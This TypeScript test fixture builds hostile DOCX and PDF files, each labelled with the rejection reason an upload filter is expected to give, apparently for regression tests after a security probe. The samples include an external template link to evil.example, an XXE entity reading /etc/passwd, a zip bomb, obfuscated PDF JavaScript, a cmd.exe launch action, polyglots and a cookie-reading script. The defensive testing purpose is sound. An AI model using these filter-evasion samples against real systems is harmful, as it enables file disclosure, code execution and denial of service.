import { deflateSync } from 'node:zlib';
import PizZip from 'pizzip';

/** Files from the security probe (issue 19) that the upload filter once accepted. */
const TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const DOC = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>';
const TEMPLATE_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';

export function docxWith(parts: Record<string, string | Buffer> = {}): Buffer {
  const zip = new PizZip();
  zip.file('[Content_Types].xml', TYPES);
  zip.file('word/document.xml', DOC);
  for (const [name, content] of Object.entries(parts)) zip.file(name, content);
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
}

const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const rels = (relationship: string) => `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`;
const doctype = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';

/** A minimal PDF with `extra` inserted as one more object. */
export function pdfWith(extra = '', tail = ''): Buffer {
  return Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n${extra}trailer\n<< /Root 1 0 R >>\n%%EOF\n${tail}`, 'latin1');
}

/** A PDF whose action dictionary sits in a compressed object stream. */
function pdfWithObjectStream(dictionary: string): Buffer {
  const data = deflateSync(Buffer.from(`3 0 ${dictionary}`));
  const head = Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`, 'latin1');
  return Buffer.concat([head, data, Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1')]);
}

/** Five 10 MB parts of spaces: about 50 MB from a file of under 100 KB, each part honest about its size. */
export function ratioBomb(): Buffer {
  const parts: Record<string, Buffer> = {};
  for (let i = 0; i < 5; i++) parts[`word/bomb${i}.xml`] = Buffer.alloc(10 * 1024 * 1024 - 1, 0x20);
  return docxWith(parts);
}

export interface HostileFile {
  name: string;
  bytes: () => Buffer;
  reason: string;
}

export const HOSTILE_FILES: HostileFile[] = [
  { name: 'external relationship in single quotes', reason: 'external_relationship', bytes: () => docxWith({ 'word/_rels/settings.xml.rels': rels(`<Relationship Id='r1' Type='${TEMPLATE_TYPE}' Target='http://evil.example/t.dotm' TargetMode='External'/>`) }) },
  { name: 'external relationship with spaces around =', reason: 'external_relationship', bytes: () => docxWith({ 'word/_rels/settings.xml.rels': rels(`<Relationship Id = "r1" Type = "${TEMPLATE_TYPE}" Target = "http://evil.example/t.dotm" TargetMode = "External"/>`) }) },
  { name: 'external relationship in an upper-case .RELS part', reason: 'external_relationship', bytes: () => docxWith({ 'WORD/_RELS/SETTINGS.XML.RELS': rels(`<Relationship Id="r1" Type="${TEMPLATE_TYPE}" Target="http://evil.example/t.dotm" TargetMode="External"/>`) }) },
  { name: 'external relationship in UTF-16', reason: 'external_relationship', bytes: () => docxWith({ 'word/_rels/settings.xml.rels': utf16(rels(`<Relationship Id="r1" Type="${TEMPLATE_TYPE}" Target="http://evil.example/t.dotm" TargetMode="External"/>`).replace('version="1.0"', 'version="1.0" encoding="UTF-16"')) }) },
  { name: 'external relationship with an entity-escaped mode', reason: 'external_relationship', bytes: () => docxWith({ 'word/_rels/settings.xml.rels': rels(`<Relationship Id="r1" Type="${TEMPLATE_TYPE}" Target="http://evil.example/t.dotm" TargetMode="&#69;xternal"/>`) }) },
  { name: 'DOCTYPE in a UTF-16 part', reason: 'dtd_not_allowed', bytes: () => docxWith({ 'word/document.xml': utf16(doctype.replace('version="1.0"', 'version="1.0" encoding="UTF-16"')) }) },
  { name: 'DOCTYPE in a part not named .xml', reason: 'dtd_not_allowed', bytes: () => docxWith({ 'customXml/item1.dat': doctype }) },
  { name: 'part in a legacy encoding', reason: 'unsupported_encoding', bytes: () => docxWith({ 'word/styles.xml': '<?xml version="1.0" encoding="ISO-8859-1"?><w:styles/>' }) },
  { name: 'macro content type in single quotes', reason: 'macros_not_allowed', bytes: () => docxWith({ '[Content_Types].xml': TYPES.replace('"/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"', "'/word/document.xml' ContentType = 'application/vnd.ms-word.document.macroEnabled.main+xml'") }) },
  { name: 'zip bomb of five honest 10 MB parts (~50 MB from ~100 KB)', reason: 'zip_bomb', bytes: ratioBomb },
  { name: 'PDF with JavaScript', reason: 'pdf_javascript', bytes: () => pdfWith('3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n') },
  { name: 'PDF with #-escaped JavaScript', reason: 'pdf_javascript', bytes: () => pdfWith('3 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n') },
  { name: 'PDF with JavaScript in a compressed object stream', reason: 'pdf_javascript', bytes: () => pdfWithObjectStream('<< /S /JavaScript /JS (app.alert(1)) >>') },
  { name: 'PDF with an embedded file', reason: 'pdf_embedded_file', bytes: () => pdfWith('3 0 obj\n<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream\nendobj\n') },
  { name: 'PDF with a launch action', reason: 'pdf_action', bytes: () => pdfWith('3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n') },
  { name: 'PDF + zip polyglot', reason: 'mixed_format', bytes: () => Buffer.concat([pdfWith(), docxWith()]) },
  { name: 'PDF + zip polyglot ending in %%EOF', reason: 'mixed_format', bytes: () => Buffer.concat([pdfWith(), Buffer.from('PK\x05\x06' + '\0'.repeat(16) + '\x07\0%%EOF\n', 'latin1')]) },
  { name: 'HTML after %PDF-', reason: 'mixed_format', bytes: () => Buffer.from('%PDF-1.7\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n', 'latin1') },
  { name: 'PDF without an end-of-file marker', reason: 'invalid_pdf', bytes: () => Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n', 'latin1') },
];
